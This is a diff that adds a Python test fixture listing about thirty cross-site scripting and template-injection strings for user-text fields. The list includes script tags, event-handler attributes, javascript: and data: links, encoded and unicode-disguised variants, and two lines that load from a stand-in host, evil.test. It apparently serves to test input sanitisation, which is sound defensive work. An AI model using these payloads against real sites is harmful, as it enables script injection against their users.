@@ -1,0 +1,38 @@
+"""Hostile strings for every user-text field: script tags, handlers, ``javascript:`` links,
+template syntax, entities and unicode tricks. Each is short enough for the shortest field."""
+
+from __future__ import annotations
+
+XSS_PAYLOADS: list[str] = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
+    '"><img src=x onerror=alert(1)>',
+    "'><svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    '<img src="x" onerror="alert(1)">',
+    "<body onload=alert(1)>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    '<a href="javascript:alert(1)">x</a>',
+    "[click](javascript:alert(1))",
+    "[click](JaVaScRiPt:alert(1))",
+    "[click](  javascript:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "![x](javascript:alert(1))",
+    "<details open ontoggle=alert(1)>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "{{ 1337*1337 }}",
+    "{% debug %}",
+    "${1337*1337}",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "\u003cscript\u003ealert(1)\u003c/script\u003e",
+    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "';alert(1);//",
+    '";alert(1);//',
+    "<style>*{background:url(//evil.test)}</style>",
+    "<input autofocus onfocus=alert(1)>",
+    "\u202e<script>alert(1)</script>",
+]
